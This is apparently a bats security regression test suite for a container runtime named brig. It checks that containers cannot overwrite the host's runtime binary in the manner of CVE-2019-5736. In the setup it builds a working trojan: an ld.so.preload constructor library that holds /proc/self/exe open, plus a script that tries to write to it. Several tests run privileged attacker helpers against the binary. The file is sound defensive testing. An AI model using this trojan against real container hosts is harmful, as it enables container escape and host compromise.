#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Our own binary: no container can open it for writing, nor get it out of the mount that forbids it.
load helpers
load exec
load security

setup_file() {
	attack_begin
	trojan "$TEMPLATE/rootfs"
}

setup() {
	test_begin
	BEFORE=$(sha256sum "$BRIG"; stat -c '%i %s %Y %a' "$BRIG")
}

teardown() {
	nobody_end
	test_end
}

assert_intact() {
	assert_equal "$BEFORE" "$(sha256sum "$BRIG"; stat -c '%i %s %Y %a' "$BRIG")"
}

# The libraries that brig is linked with, and one that the image has loaded before them: it opens what
# it is run from, leaves the descriptor to a program of the image, and that writes to it when brig has
# ended.
trojan() { # ROOTFS
	local lib

	ldd "$BRIG" | grep -o '/[^ ]*' | while read -r lib; do
		mkdir -p "$1$(dirname "$lib")"
		cp "$lib" "$1$lib"
	done
	cat > "$BATS_FILE_TMPDIR/trojan.c" <<- 'END'
		#include <fcntl.h>
		#include <unistd.h>
		__attribute__((constructor)) static void enter(void)
		{
			dup2(open("/proc/self/exe", O_RDONLY), 9);
			execl("/bin/sh", "sh", "/bin/overwrite", (char *)0);
		}
	END
	mkdir -p "$1/etc"
	cc -shared -fPIC -O1 -nostartfiles -o "$1/trojan.so" "$BATS_FILE_TMPDIR/trojan.c"
	echo /trojan.so > "$1/etc/ld.so.preload"
	cat > "$1/bin/overwrite" <<- 'END'
		echo "held $(sha256sum < /proc/self/fd/9)"
		for i in 1 2 3 4 5 6 7 8 9 10; do
			echo owned 2> /dev/null > /proc/self/fd/9 && echo written && exit
			echo owned 2> /dev/null >> /proc/self/fd/9 && echo appended && exit
			sleep 0.1
		done
		echo done
	END
	chmod +x "$1/bin/overwrite"
}

# It was brig that was run. One that is linked with libraries loaded the trojan, which got hold of it
# and had its time when brig had ended; a static one has no use for libraries.
assert_trojan() { # what it said
	if ldd "$BRIG" | grep -q '=>'; then
		wait_for grep -Eq '^(done|written|appended)' "$1"
		grep -q "^held ${BEFORE%% *} " "$1"
		! grep -E 'written|appended' "$1"
	else
		wait_for grep -q brig "$1"
		! grep held "$1"
	fi
	assert_intact
}

@test "an image whose program is /proc/self/exe, with a library of its own (CVE-2019-5736)" {
	local program said=$BATS_TEST_TMPDIR/said-by-trojan

	printf '#!/proc/self/exe\n' > "$BUNDLE/rootfs/bin/entry"
	chmod +x "$BUNDLE/rootfs/bin/entry"
	ln -s /proc/self/exe "$BUNDLE/rootfs/bin/linked"
	for program in /proc/self/exe entry linked /proc/thread-self/exe /proc/1/exe; do
		config_args "$program"
		brig run -d -b "$BUNDLE" "$ID" < /dev/null > "$said" 2>&1
		assert_trojan "$said"
		brig delete --force "$ID"
	done
	config_args sleep 1000
	start
	for program in /proc/self/exe entry linked; do
		brig exec -d "$ID" "$program" < /dev/null > "$said" 2>&1
		assert_trojan "$said"
	done
}

# A container with every right that lets it hold our executable open; each exec is a chance.
@test "a container that opens every /proc/PID/exe for writing while brig execs into it often (CVE-2019-5736)" {
	local i

	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
	attacker write
	for ((i = 0; i < EXECS; i++)); do
		brig exec "$ID-a" true < /dev/null
		# And when it is itself the program, which a dynamic one can't be here.
		brig exec "$ID-a" /proc/self/exe --version < /dev/null || :
	done
	output=$(< "$SAID")
	assert_output_matches '^seen$'
	assert_output_matches '^taken$'
	refute_output_matches 'written|truncated'
	brig delete --force "$ID-a"
	assert_intact
}

@test "the same with the init of other containers, in a pid namespace that is joined (CVE-2019-5736)" {
	local i pid

	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
	attacker write
	pid=$(state_of pid "$ID-a")
	victim
	config '.linux.namespaces |= map(if .type == "pid" then .path = $p else . end)' --arg p "/proc/$pid/ns/pid"
	config_args true
	for ((i = 0; i < RACES; i++)); do
		brig run -b "$VICTIM" "$ID" < /dev/null
	done
	output=$(< "$SAID")
	assert_output_matches '^taken$'
	refute_output_matches 'written|truncated'
	brig delete --force "$ID-a"
	assert_intact
}

# Where the kernel finds a mount read-only, it has already counted the writer: for that moment
# execve(2) of the inode says ETXTBSY.
@test "a container that tries to open our executable for writing does not keep the host from running it" {
	local i said=$BATS_TEST_TMPDIR/said-by-occupant

	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
	config_args sleep 1000
	create
	brig exec -d "$ID" attack occupy /proc/1/exe < /dev/null > "$said" 2>&1
	wait_for grep -q seen "$said"
	# While one executes it, it cannot be opened anyway.
	brig start "$ID"
	for ((i = 0; i < 300; i++)); do
		"$BRIG" --version > "$BATS_TEST_TMPDIR/version"
	done
	brig delete --force "$ID"
	assert_intact
}

@test "what we run from is an overlay; below a mount on the executable it is a sealed copy (CVE-2019-5736)" {
	local pid

	config_args true
	create
	run -0 stat -f -c %T "/proc/$(state_of pid)/exe"
	assert_output overlayfs
	brig delete --force "$ID"
	touch "$BATS_TEST_TMPDIR/brig"
	unshare -m sh -euc 'mount --bind "$1" "$2"; shift; exec "$@"' sh "$BRIG" "$BATS_TEST_TMPDIR/brig" \
		--root "$ROOT" create -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/out" 2>&1
	run -0 readlink "/proc/$(state_of pid)/exe"
	assert_output_matches '^/memfd:brig'
}

# Each run makes an overlay: were the kernel to warn of it, it would fill its log.
@test "what we run from leaves nothing in the log of the kernel" {
	local last

	last=$(dmesg | tail -1) || skip "the kernel's log is not to be read"
	config_args true
	run -0 brig run -b "$BUNDLE" "$ID"
	run awk -v last="$last" 'seen && /overlayfs.*(lower|\/proc\/self\/fd|\/dev)/; $0 == last { seen = 1 }' <(dmesg)
	assert_output ''
}

@test "what goes on from the overlay without executing it again has nothing of the host's file; where that is refused it executes" {
	local pid nth

	config_args true
	create
	pid=$(state_of pid)
	run -0 stat -f -c %T "/proc/$pid/exe"
	assert_output overlayfs
	# The kernel names a file of the overlay by its path below the layer.
	run -1 grep -F " $BRIG" "/proc/$pid/maps"
	brig delete --force "$ID"
	! grep -aq __asan_init "$BRIG" || skip "LeakSanitizer does not work under strace"
	strace -o calls -e trace=prctl "$BRIG" --root "$ROOT" run -b "$BUNDLE" "$ID" < /dev/null
	nth=$(grep '^prctl' calls | grep -n PR_SET_MM_MAP_SIZE | cut -d: -f1)
	timeout 60 strace -o calls -e trace=execveat,prctl -e inject=prctl:error=EINVAL:when="$nth" \
		"$BRIG" --root "$ROOT" create -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/out" 2>&1
	grep -q 'INJECTED' calls
	grep -q 'execveat.* = 0$' calls
	run -0 stat -f -c %T "/proc/$(state_of pid)/exe"
	assert_output overlayfs
}

@test "the mount that we run from cannot be made writable, cloned or moved, with all rights (CVE-2019-5736)" {
	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_DAC_READ_SEARCH CAP_SYS_CHROOT CAP_FOWNER
	config_args true
	create
	inside attack unlock /proc/1/exe
	assert_equal 0 "$status"
	assert_output seen
	assert_intact
}

@test "rootless: what brig runs from is sealed, and its container cannot write to it (CVE-2019-5736)" {
	local pid

	nobody_begin
	as_nobody create -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/out" 2>&1
	pid=$(as_nobody state "$ID" | jq .pid)
	run readlink "/proc/$pid/exe"
	assert_output_matches 'memfd:brig'
	run -0 python3 - "$pid" <<- 'END'
		import fcntl, os, sys
		fd = os.open('/proc/%s/exe' % sys.argv[1], os.O_RDONLY)
		print(fcntl.fcntl(fd, fcntl.F_GET_SEALS) & 15)
	END
	assert_output 15
	run as_nobody exec --cap CAP_SYS_PTRACE "$ID" attack unlock /proc/1/exe < /dev/null
	assert_output seen
	as_nobody delete --force "$ID"
	assert_intact
}

@test "rootless: a container that opens every /proc/PID/exe for writing while brig execs into it often (CVE-2019-5736)" {
	local i

	nobody_begin
	config_args attack write
	as_nobody run -d -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/said" 2>&1
	for ((i = 0; i < EXECS; i++)); do
		as_nobody exec "$ID" true < /dev/null
	done
	output=$(< "$BATS_TEST_TMPDIR/said")
	assert_output_matches '^seen$'
	refute_output_matches 'written|truncated'
	as_nobody delete --force "$ID"
	assert_intact
}

@test "rootless: an image whose program is /proc/self/exe, with a library of its own (CVE-2019-5736)" {
	nobody_begin
	config_args /proc/self/exe
	as_nobody run -d -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/said" 2>&1
	assert_trojan "$BATS_TEST_TMPDIR/said"
}
